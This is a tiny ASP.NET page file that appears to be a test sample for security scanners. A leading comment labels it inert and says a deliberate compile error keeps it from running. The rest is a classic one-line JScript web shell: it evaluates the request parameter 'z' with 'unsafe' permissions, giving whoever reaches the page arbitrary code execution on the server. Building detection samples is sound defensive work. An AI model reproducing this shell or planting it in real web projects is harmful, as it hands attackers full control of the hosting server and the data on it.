<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>
